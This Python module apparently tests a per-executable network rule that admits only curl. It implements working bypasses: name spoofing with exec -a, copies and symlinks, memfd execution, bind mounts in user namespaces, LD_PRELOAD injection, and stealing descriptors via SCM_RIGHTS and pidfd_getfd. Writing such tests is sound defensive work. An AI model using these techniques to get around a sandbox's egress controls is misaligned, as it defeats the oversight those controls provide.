"""A rule is for one executable (curl), and somebody else would be taken for it."""

from __future__ import annotations

import array
import ctypes
import errno
import os
import shutil
import socket
import struct
import subprocess
import sys
import time

from .registry import SECONDS, Stage, Stopped, attack, listen

_FETCH = """
import socket, sys
with socket.create_connection((sys.argv[1], int(sys.argv[2])), 20) as connection:
    connection.sendall(sys.argv[3].encode())
    print(connection.recv(65536).decode())
"""
CURL = "/usr/bin/curl"


def _data(stage: Stage) -> bytes:
    place = f"curls.test:{stage.plain}"
    return stage.head(f"http://{place}/open/{stage.by}", place, "Connection: close")


def _started(stage: Stage, command: list[str], program: str | None = None) -> str:
    host, port = stage.fronts[stage.front]
    arguments = ["-c", _FETCH, host, str(port), _data(stage).decode()]
    done = subprocess.run(
        [*command, *arguments], executable=program, capture_output=True, text=True, timeout=30
    )
    if not done.stdout.startswith("HTTP/1.1 2"):
        raise Stopped(done.stdout[:600] + done.stderr[-200:])
    return done.stdout


PYTHON = os.path.realpath(sys.executable)


@attack("callers")
def nobody_special(stage: Stage) -> str:
    """A program that is started by curl's name: `exec -a /usr/bin/curl`."""
    return _started(stage, [CURL], PYTHON)


@attack("callers")
def copy(stage: Stage) -> str:
    """A copy of another program by the name of curl."""
    shutil.copy(PYTHON, f"{stage.by}/curl")
    return _started(stage, [f"{stage.by}/curl"])


@attack("callers")
def link(stage: Stage) -> str:
    """A symbolic link of curl's name to another program."""
    os.symlink(PYTHON, f"{stage.by}/curl")
    return _started(stage, [f"{stage.by}/curl"])


@attack("callers", stopped="not permitted")
def from_memory(stage: Stage) -> str:
    """A program in memory (memfd_create) by the name of curl."""
    memory = os.memfd_create("curl", 0)
    with open(PYTHON, "rb") as source, open(memory, "wb", closefd=False) as target:
        shutil.copyfileobj(source, target)
    os.set_inheritable(memory, True)
    script = f'exec -a {CURL} /proc/self/fd/{memory} "$@"'
    host, port = stage.fronts[stage.front]
    done = subprocess.run(
        ["bash", "-c", script, "x", "-c", _FETCH, host, str(port), _data(stage).decode()],
        pass_fds=[memory], capture_output=True, text=True, timeout=30,
    )  # fmt: skip
    if not done.stdout.startswith("HTTP/1.1 2"):
        raise Stopped(done.stdout[:600] + done.stderr[-200:])
    return done.stdout


@attack("callers", stopped="not permitted")
def mounted_over(stage: Stage) -> str:
    """Another program that is mounted over curl, in namespaces of the attacker's own."""
    script = f'mount --bind {PYTHON} {CURL} && exec {CURL} "$@"'
    return _started(stage, ["unshare", "-Urm", "sh", "-c", script, "x"])


@attack("callers")
def child(stage: Stage) -> str:
    """A connection of another program that a running curl has inherited too."""
    with stage.dial() as connection, _holder(connection) as holder:
        connection.sendall(_data(stage))
        said = listen(connection)
        holder.kill()
    if not said.startswith("HTTP/1.1 2"):
        raise Stopped(said[:600])
    return said


def _holder(connection: socket.socket) -> subprocess.Popen[bytes]:
    """A curl that waits for its configuration, and holds the connection."""
    number = connection.fileno()
    reader, _ = os.pipe()
    running = subprocess.Popen([CURL, "-K", "-"], stdin=reader, pass_fds=[number])
    while os.readlink(f"/proc/{running.pid}/exe") != os.path.realpath(CURL):
        time.sleep(0.005)
    return running


@attack(
    "callers",
    limit="whose code runs in an allowed program is its environment's choice, and that is the "
    "agent's; `sha256` does not help",
)
def preloaded(stage: Stage) -> str:
    """Code of the attacker's own in the allowed program (LD_PRELOAD)."""
    library = f"{os.getcwd()}/{stage.by}/library.so"
    source = """
    #include <arpa/inet.h>
    #include <stdlib.h>
    #include <string.h>
    #include <unistd.h>
    __attribute__((constructor)) static void begin(void) {
        struct sockaddr_in front = {.sin_family = AF_INET};
        char *data = getenv("DATA"), answer[4096];
        front.sin_port = htons(atoi(getenv("PORT")));
        front.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        int connection = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(connection, (struct sockaddr *)&front, sizeof front)) _exit(1);
        if (write(connection, data, strlen(data)) < 0) _exit(1);
        ssize_t size = read(connection, answer, sizeof answer);
        _exit(size > 0 && write(1, answer, size) == size ? 0 : 1);
    }
    """
    built = subprocess.run(
        ["gcc", "-shared", "-fPIC", "-o", library, "-xc", "-"], input=source.encode(),
        capture_output=True,
    )  # fmt: skip
    if built.returncode:
        raise Stopped(built.stderr.decode())
    port = str(stage.fronts[stage.front][1])
    variables = {**os.environ, "LD_PRELOAD": library, "PORT": port, "DATA": _data(stage).decode()}
    done = subprocess.run([CURL, "--version"], env=variables, capture_output=True, text=True)
    if not done.stdout.startswith("HTTP/1.1 2"):
        raise Stopped(done.stdout[:600] + done.stderr[-200:])
    return done.stdout


@attack("callers", alone=True)  # Nobody is known while a descriptor is under way.
def in_flight(stage: Stage) -> str:
    """A connection that only curl holds, while the attacker's own end of it is in flight in a
    message between two of its sockets (SCM_RIGHTS)."""
    left, right = socket.socketpair()
    connection = stage.dial()
    with _holder(connection) as holder, left, right:
        connection.sendall(_data(stage))
        left.sendmsg(
            [b"x"],
            [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [connection.fileno()]))],
        )
        connection.close()
        time.sleep(1)
        _, ancillary, *_ = right.recvmsg(1, socket.CMSG_SPACE(4))
        with socket.socket(fileno=array.array("i", ancillary[0][2])[0]) as again:
            said = listen(again)
        holder.kill()
    if not said.startswith("HTTP/1.1 2"):
        raise Stopped(said[:600])
    return said


@attack("callers", stopped="not permitted")
def taken_from_curl(stage: Stage) -> str:
    """A connection that curl has made and the attacker takes out of it (pidfd_getfd)."""
    host, port = stage.fronts[stage.front]
    command = [CURL, "-sS", "--noproxy", "", "-x", f"http://{host}:{port}", "-T", "-",
               "-H", "Expect:", f"http://curls.test:{stage.plain}/open/first"]  # fmt: skip
    reader, writer = os.pipe()
    call = ctypes.CDLL(None, use_errno=True).syscall
    with subprocess.Popen(command, stdin=reader, stdout=subprocess.DEVNULL) as running:
        try:
            process = call(434, running.pid, 0)  # pidfd_open(2)
            for _ in range(200):
                time.sleep(0.05)
                for number in range(3, 12):
                    taken = call(438, process, number, 0)  # pidfd_getfd(2)
                    if taken < 0 and ctypes.get_errno() != errno.EBADF:
                        raise Stopped(os.strerror(ctypes.get_errno()))
                    if taken >= 0 and _is_connection(taken):
                        with socket.socket(fileno=taken) as connection:
                            connection.settimeout(SECONDS)
                            # The end of curl's upload, and a request of the attacker's.
                            connection.sendall(b"0\r\n\r\n" + _data(stage))
                            return listen(connection)
            raise Stopped("curl holds no connection")
        finally:
            running.kill()
            os.close(writer)


def _is_connection(number: int) -> bool:
    """Whether it is one, and the head of curl's request has arrived at the other end."""
    if not os.readlink(f"/proc/self/fd/{number}").startswith("socket:"):
        return False
    with socket.socket(fileno=os.dup(number)) as found:
        if found.family != socket.AF_INET:
            return False
        try:
            found.getpeername()
        except OSError:
            return False
        # tcpi_bytes_acked of struct tcp_info (linux/tcp.h); the handshake counts as one.
        told = found.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 128)
        return bool(struct.unpack_from("Q", told, 120)[0] > 1)
